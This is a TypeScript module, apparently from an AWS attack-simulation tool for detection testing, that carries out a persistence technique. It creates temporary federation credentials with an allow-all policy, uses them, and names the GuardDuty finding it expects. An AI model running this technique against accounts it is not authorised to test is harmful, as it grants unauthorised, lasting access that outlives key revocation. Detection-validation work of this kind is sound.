/** Persistence through temporary credentials that outlive the user's access key. */
import { GetCallerIdentityCommand, GetFederationTokenCommand } from '@aws-sdk/client-sts';
import { clientsLike } from '../clients.js';
import { technique } from '../technique.js';

export const stsFederationToken = technique({
  id: 'aws.persistence.sts-federation-token',
  title: 'Generate temporary AWS credentials using GetFederationToken',
  source: 'stratus',
  tactics: ['Persistence'],
  expectedFindingTypes: ['Persistence:STS/AccountManipulation'],
  async detonate(context) {
    const allowAll = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });
    const token = await context.attacker.sts.send(new GetFederationTokenCommand({ Name: 'bulwark_simulate', Policy: allowAll, DurationSeconds: 900 }));
    const credentials = token.Credentials!;
    context.attribute(credentials.AccessKeyId!);
    const federated = clientsLike(context.attacker, {
      credentials: { accessKeyId: credentials.AccessKeyId!, secretAccessKey: credentials.SecretAccessKey!, sessionToken: credentials.SessionToken },
    });
    try {
      await federated.sts.send(new GetCallerIdentityCommand({}));
    } finally {
      federated.close();
    }
  },
});
